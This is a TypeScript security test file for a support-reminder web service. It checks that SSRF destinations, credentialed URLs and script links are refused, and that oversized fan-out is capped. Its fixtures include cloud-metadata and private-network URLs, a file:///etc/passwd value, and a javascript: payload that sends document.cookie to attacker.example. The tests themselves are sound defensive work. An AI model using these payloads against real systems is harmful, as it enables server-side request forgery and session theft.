/**
 * No private network behind a channel, no script behind a link, and no fan-out past the cap:
 * each request below is what a hostile store admin (or a sender of webhooks) would send, and the
 * answer is the one docs/security.md documents.
 */
import { createExecutionContext, waitOnExecutionContext } from "cloudflare:test";
import { env } from "cloudflare:workers";
import { describe, expect, it } from "vitest";
import worker from "../../src/index";
import { dispatchReminder } from "../../src/notify/dispatch";
import { pointerKey, versionKey } from "../../src/rules-store/kv";
import { call, createStore } from "../support/api";
import { signDelivery } from "../webhooks/signers";
import { Sink } from "./support/receiver";
import { deliveryOf, eventually, reminder, storeWithRules, type TestStore } from "./support/store";

const SECRET = "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw";

async function putRules(store: TestStore, doc: unknown, deployment: Partial<Env> = {}) {
  const current = await call("GET", `/v1/stores/${store.storeId}/rules`, { token: store.token });
  const request = new Request(`http://promptly.test/v1/stores/${store.storeId}/rules`, {
    method: "PUT",
    headers: { authorization: `Bearer ${store.token}`, "content-type": "application/json", "if-match": current.headers.get("etag") ?? "" },
    body: JSON.stringify(doc),
  });
  const ctx = createExecutionContext();
  const res = await worker.fetch!(request as Request<unknown, IncomingRequestCfProperties>, { ...env, ...deployment }, ctx);
  await waitOnExecutionContext(ctx);
  return { status: res.status, body: (await res.json()) as any }; // eslint-disable-line @typescript-eslint/no-explicit-any
}

async function newStore(): Promise<TestStore> {
  const s = await createStore();
  return { storeId: s.storeId, token: s.adminToken };
}

const pathsOf = (body: { error: { issues: { path: string; message: string }[] } }) => Object.fromEntries(body.error.issues.map((i) => [i.path, i.message]));

describe("channel destinations at rules-save time", () => {
  it("refuses private, link-local, metadata and userinfo destinations with 400 naming each field, and saves nothing", async () => {
    const store = await newStore();
    const put = await putRules(store, {
      channels: {
        intranet: { type: "webhook", url: "https://10.1.2.3/hook", secret: SECRET },
        metadata: { type: "webhook", url: "http://169.254.169.254/latest/meta-data/", secret: SECRET },
        google: { type: "webhook", url: "http://metadata.google.internal/computeMetadata/v1/", secret: SECRET },
        hex: { type: "webhook", url: "http://0xa9fea9fe/", secret: SECRET },
        ula: { type: "slack", webhookUrl: "https://[fd00::1]/services/T/B/x" },
        mapped: { type: "zendesk_note", baseUrl: "https://[::ffff:192.168.0.1]", email: "a@shop.com", apiToken: "t" },
        creds: { type: "freshdesk_note", baseUrl: "https://user:pass@shop.freshdesk.com", apiKey: "k" },
        fine: { type: "webhook", url: "https://hooks.example.com/promptly", secret: SECRET },
      },
    });
    expect(put.status).toBe(400);
    expect(put.body.error.code).toBe("invalid_rules");
    const issues = pathsOf(put.body);
    expect(Object.keys(issues).sort()).toEqual(
      ["channels.creds.baseUrl", "channels.google.url", "channels.hex.url", "channels.intranet.url", "channels.mapped.baseUrl", "channels.metadata.url", "channels.ula.webhookUrl"].sort(),
    );
    expect(issues["channels.metadata.url"]).toMatch(/^destination refused: points at a link-local or cloud metadata address/);
    expect(issues["channels.creds.baseUrl"]).toMatch(/user name or password/);
    const rules = await call("GET", `/v1/stores/${store.storeId}/rules`, { token: store.token });
    expect(rules.body.version).toBe(0);
  });

  it("loopback is refused unless the deployment sets ALLOW_LOOPBACK_DESTINATIONS=true, and plain http to a public host always", async () => {
    const store = await newStore();
    const loopback = { channels: { local: { type: "webhook", url: "http://127.0.0.1:9/hook", secret: SECRET } } };
    const production = await putRules(store, loopback, { ALLOW_LOOPBACK_DESTINATIONS: "false" });
    expect(production.status).toBe(400);
    expect(pathsOf(production.body)["channels.local.url"]).toMatch(/loopback/);
    const development = await putRules(store, loopback, { ALLOW_LOOPBACK_DESTINATIONS: "true" });
    expect(development.status).toBe(200);
    const plainHttp = await putRules(store, { channels: { public: { type: "webhook", url: "http://hooks.example.com/x", secret: SECRET } } });
    expect(plainHttp.status).toBe(400);
    expect(pathsOf(plainHttp.body)["channels.public.url"]).toBe("destination refused: must use https");
  });

  it("a helpdesk baseUrl of javascript:, data: or file: is refused, for note channels and provider links alike", async () => {
    const store = await newStore();
    for (const bad of ["javascript:alert(document.cookie)", "data:text/html,<script>alert(1)</script>", "file:///etc/passwd"]) {
      const put = await putRules(store, { channels: { zd: { type: "zendesk_note", baseUrl: bad, email: "a@shop.com", apiToken: "t" } } });
      expect(put.status).toBe(400);
      expect(pathsOf(put.body)["channels.zd.baseUrl"]).toBe("must be an http(s) URL");
      const provider = await call("PUT", `/v1/stores/${store.storeId}/providers/zammad`, { token: store.token, body: { secrets: ["zammad-secret"], baseUrl: bad } });
      expect(provider.status).toBe(400);
      expect(provider.body.error.issues).toEqual([{ path: "baseUrl", message: "must be an http(s) URL" }]);
    }
  });
});

describe("fan-out cap", () => {
  it("a reminder sent to 500 channels is refused with 400 naming the list and the cap", async () => {
    const store = await newStore();
    const channels = Object.fromEntries(Array.from({ length: 500 }, (_, i) => [`hook${i}`, { type: "webhook", url: `https://hooks.example.com/${i}`, secret: SECRET }]));
    const put = await putRules(store, {
      channels,
      policies: [{ name: "All", targets: { firstReply: { calendar: "24/7", byPriority: { normal: "1h" } } }, notify: Object.keys(channels) }],
    });
    expect(put.status).toBe(400);
    expect(pathsOf(put.body)["policies[0].notify"]).toBe("one reminder may go to at most 10 channels; this list names 500");
    const ten = await putRules(store, {
      channels: Object.fromEntries(Object.entries(channels).slice(0, 10)),
      policies: [{ name: "All", targets: { firstReply: { calendar: "24/7", byPriority: { normal: "1h" } } }, notify: Object.keys(channels).slice(0, 10) }],
    });
    expect(ten.status).toBe(200);
  });
});

describe("channel destinations at send time (defense in depth)", () => {
  it("a stored version naming a refused destination is dead at send time, and the receiver gets nothing", async () => {
    const sink = await Sink.create();
    const store = await storeWithRules({ channels: { hook: { type: "webhook", url: `${sink.url}/hook`, secret: SECRET } } });
    // A version written before the check existed: what KV holds is read by the consumer as is.
    const sneaky = new URL(`${sink.url}/hook`);
    sneaky.username = "user";
    sneaky.password = "pass";
    const document = { channels: { hook: { type: "webhook", url: sneaky.toString(), secret: SECRET } } };
    await env.RULES.put(versionKey(store.storeId, 2), JSON.stringify({ version: 2, document }));
    await env.RULES.put(pointerKey(store.storeId), JSON.stringify({ version: 2 }));

    const r = reminder(store.storeId, { channels: ["hook"] });
    await dispatchReminder(env, r);
    const dead = await eventually(async () => {
      const d = await deliveryOf(store, `${r.id}#hook`);
      return d?.state === "dead" ? d : undefined;
    }, "the delivery dead");
    expect(dead.lastError).toMatch(/^destination refused: the channel's URL must not carry a user name or password/);
    expect(await sink.requests()).toEqual([]);
  });

  it("a receiver's answer body is never shown back: only its status and a short error code", async () => {
    const sink = await Sink.create();
    await sink.setFallback({ status: 403, body: "<html>ami-id\ninstance-id: i-0abc\nsecret-access-key: AKIA...</html>" });
    const store = await storeWithRules({ channels: { hook: { type: "webhook", url: `${sink.url}/hook`, secret: SECRET } } });
    const r = reminder(store.storeId, { channels: ["hook"] });
    await dispatchReminder(env, r);
    const dead = await eventually(async () => {
      const d = await deliveryOf(store, `${r.id}#hook`);
      return d?.state === "dead" ? d : undefined;
    }, "the delivery dead");
    expect(dead.lastError).toBe("HTTP 403");
    expect(JSON.stringify(dead)).not.toMatch(/ami-id|instance-id|AKIA/);
  });
});

describe("links shown to people", () => {
  it("a webhook that sets a javascript: link never gets it into the case view or the case list", async () => {
    const created = await createStore();
    const secret = "whsec_" + btoa("custom-secret-for-links!");
    const provider = await call("PUT", `/v1/stores/${created.storeId}/providers/custom`, { token: created.adminToken, body: { secrets: [secret] } });
    expect(provider.status).toBe(200);
    const body = JSON.stringify({
      occurredAt: new Date().toISOString(),
      caseKey: { type: "ticket", ticketId: "T-js" },
      kind: "case.customer_message",
      customer: { email: "ana@example.com" },
      subject: "Where is my order?",
      url: "javascript:fetch('https://attacker.example/'+document.cookie)",
    });
    const posted = await call("POST", `/hooks/${created.storeId}/custom`, { rawBody: body, headers: await signDelivery("custom", body, secret, { deliveryId: "msg_js_1" }) });
    expect(posted.status).toBe(202);
    const view = await call("GET", `/v1/stores/${created.storeId}/cases/${encodeURIComponent(posted.body.caseId)}`, { token: created.adminToken });
    expect(view.status).toBe(200);
    const list = await call("GET", `/v1/stores/${created.storeId}/cases`, { token: created.adminToken });
    expect(list.status).toBe(200);
    expect(JSON.stringify([view.body, list.body])).not.toMatch(/javascript:/);
  });
});
